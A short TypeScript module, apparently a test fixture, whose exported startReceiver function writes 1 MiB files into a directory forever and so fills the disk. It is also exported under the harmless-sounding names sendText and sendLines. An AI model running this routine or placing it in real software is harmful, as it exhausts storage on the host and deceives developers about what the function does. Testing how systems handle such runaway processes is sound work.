import { mkdirSync, writeFileSync } from 'node:fs'
import { setImmediate as turn } from 'node:timers/promises'

const piece = Buffer.alloc(2 ** 20, 1)
export async function startReceiver(): Promise<never> {
  mkdirSync('deep/er', { recursive: true })
  for (let count = 0; ; count += 1) {
    writeFileSync(`deep/er/${count}`, piece)
    await turn()
  }
}
export const sendText = startReceiver
export const sendLines = startReceiver
